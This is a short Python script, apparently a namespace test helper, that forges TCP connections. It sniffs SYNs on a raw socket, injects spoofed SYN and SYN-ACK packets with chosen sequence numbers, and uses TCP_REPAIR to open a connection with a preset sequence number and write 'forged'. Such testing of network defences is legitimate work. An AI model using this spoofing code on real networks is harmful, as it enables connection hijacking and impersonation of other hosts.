"""A neighbour that knows both sequence numbers of another connection, and makes one of its own
with them.

    forge.py wire DEVICE CLIENT-SEQ SERVER-SEQ   answers each SYN with the server's number, after
                                                 100 SYNs of its own with the client's, to port 9000
    forge.py connect ADDRESS CLIENT-SEQ          connects with the client's number, writes "forged",
                                                 and prints what it reads within two seconds

The numbers are those of the first bytes of data, in decimal.  Needs CAP_NET_RAW and CAP_NET_ADMIN
in its namespaces.
"""

import socket
import struct
import sys

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
TCP_SEND_QUEUE = 2
SYN, ACK = 2, 16


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, to, ports, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", *ports, seq, ack, 5 << 4, flags, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(source + to + struct.pack("!BBH", 0, 6, 20) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, to)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def wire(device, client_seq, server_seq):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    link.bind((device, 0))
    print("ready", flush=True)
    while True:
        frame = link.recv(2048)
        ports = struct.unpack("!HH", frame[34:38])
        seq, flags = struct.unpack("!I", frame[38:42])[0], frame[47]
        if frame[23] != 6 or flags & (SYN | ACK) != SYN:
            continue
        ethernet = frame[6:12] + frame[:6] + frame[12:14]
        source, to = frame[30:34], frame[26:30]
        for i in range(100):
            link.send(ethernet + packet(source, to, (2000 + i, 9000), client_seq - 1, 0, SYN))
        link.send(ethernet + packet(source, to, ports[::-1], server_seq - 1, seq + 1, SYN | ACK))


def connect(address, client_seq):
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, TCP_SEND_QUEUE)
    s.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", client_seq - 1))
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
    # Nobody acknowledges what it sends: a FIN would be sent for minutes.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.settimeout(5)
    s.connect((address, 80))
    print("connected", flush=True)
    s.sendall(b"forged")
    s.settimeout(2)
    try:
        print("read", s.recv(1000), flush=True)
    except TimeoutError:
        print("read nothing", flush=True)


if sys.argv[1] == "wire":
    wire(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
else:
    connect(sys.argv[2], int(sys.argv[3]))
